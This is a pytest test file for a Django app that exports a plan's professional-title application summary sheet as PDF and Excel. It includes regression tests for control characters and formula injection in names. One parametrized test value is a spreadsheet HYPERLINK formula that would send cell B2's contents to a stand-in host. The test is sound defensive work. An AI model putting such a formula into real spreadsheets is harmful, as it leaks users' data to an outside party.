"""一览表: the plan's applications that reached the committee office, as PDF and Excel."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from zhicheng.documents.samples import sample_evaluation_case
from zhicheng.documents.summary_sheet import HEADERS, plan_applications, summary_sheet_pdf, summary_sheet_xlsx

from .conftest import assert_fonts_embedded, pdf_reader, pdf_text

pytestmark = pytest.mark.django_db

EXPECTED_HEADERS = ["序号", "姓名", "性别", "出生年份", "工作单位", "学历", "现职称及取得年份", "申报资格"]


@pytest.fixture
def plan_with_cases(cast):
    a = sample_evaluation_case(applicant=cast["applicant_a"])
    b = sample_evaluation_case(applicant=cast["applicant_b"])
    # still at the personnel unit: not yet the committee office's business
    sample_evaluation_case(applicant=cast["applicant_c"], opinions=[])
    return a.evaluation_application.plan, [a, b]


def test_lists_only_cases_that_reached_the_office(plan_with_cases, cast):
    plan, cases = plan_with_cases
    assert {app.case_id for app in plan_applications(plan=plan)} == {c.pk for c in cases}


def test_pdf_is_landscape_with_header_and_rows(plan_with_cases):
    plan, _ = plan_with_cases
    reader = pdf_reader(summary_sheet_pdf(plan=plan))
    assert_fonts_embedded(reader)
    page = reader.pages[0]
    assert float(page.mediabox.width) > float(page.mediabox.height)
    text = pdf_text(reader)
    for expected in [*EXPECTED_HEADERS, f"{plan.title}申报人员一览表", "张晓明", "李雪梅", "1990", "1988",
                     "大学本科", "工程师（2018年）", "高级工程师（建筑工程）", "共2人"]:
        assert expected in text, expected
    assert "王建国" not in text


def test_long_list_flows_onto_more_pages_with_repeated_header(plan_with_cases, cast):
    from zhicheng.businesses.models import EvaluationApplication

    plan, cases = plan_with_cases
    template = cases[0].evaluation_application
    # 60 more rows for the same plan (the same stored person is enough for the layout)
    for _ in range(60):
        again = sample_evaluation_case(applicant=cast["applicant_a"])
        EvaluationApplication.objects.filter(pk=again.evaluation_application.pk).update(plan=template.plan)
    reader = pdf_reader(summary_sheet_pdf(plan=plan))
    assert len(reader.pages) >= 2
    for page in reader.pages:
        assert "现职称及取得年份" in "".join((page.extract_text() or "").split())


def test_excel_workbook(plan_with_cases):
    plan, _ = plan_with_cases
    wb = load_workbook(io.BytesIO(summary_sheet_xlsx(plan=plan)))
    ws = wb.active
    assert HEADERS == EXPECTED_HEADERS
    assert [c.value for c in ws[1]] == EXPECTED_HEADERS
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.page_setup.orientation == "landscape"
    assert ws.column_dimensions["E"].width >= 30
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    assert len(rows) == 2
    assert rows[0][:4] == [1, "张晓明", "男", "1990"]
    assert rows[1][1] == "李雪梅"
    assert rows[0][4] == "龙川县城乡建设投资有限公司"
    assert rows[0][6] == "工程师（2018年）"
    assert rows[0][7] == "高级工程师（建筑工程）"


def _rename(case, name: str) -> None:
    """Put ``name`` where the 一览表 reads it: the stored profile version the application was sent with."""
    from zhicheng.profiles.models import ProfileVersion

    version = case.evaluation_application.profile_version
    data = {**version.data, "identity": {**version.data.get("identity", {}), "name": name}}
    ProfileVersion.objects.filter(pk=version.pk).update(data=data)  # stored versions are immutable otherwise


# NUL (U+0000) is not among them: PostgreSQL cannot store it in text or jsonb, so no stored name holds it.
@pytest.mark.parametrize("name", ["张\x0b晓明", "张\x01晓\x1f明", "\x0b张晓明\x0c"])
def test_a_control_character_in_a_name_does_not_break_the_sheet(plan_with_cases, client, cast, name):
    """Regression: one name with U+000B answered 500 for the whole plan's 一览表 (IllegalCharacterError)."""
    plan, cases = plan_with_cases
    _rename(cases[0], name)
    client.force_login(cast["committee_office"])
    response = client.get(reverse("documents:summary_sheet_xlsx", args=[plan.pk]))
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(b"".join(response.streaming_content) if response.streaming
                                  else response.content)).active
    assert ws["B2"].value == "张晓明"


@pytest.mark.parametrize("name", [
    '=HYPERLINK("http://x.example/?"&B2,"张三")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1",
])
def test_names_that_look_like_formulas_stay_text(plan_with_cases, name):
    """Regression: a name starting with = reached the 一览表 as a live formula (openpyxl writes any str
    starting with "=" as one)."""
    plan, cases = plan_with_cases
    _rename(cases[0], name)
    ws = load_workbook(io.BytesIO(summary_sheet_xlsx(plan=plan))).active
    cell = ws["B2"]
    assert cell.data_type == "s" and cell.value == name
    assert cell.quotePrefix  # Excel keeps it text when the cell is edited
    assert ws["A2"].data_type == "n"  # numbers stay numbers
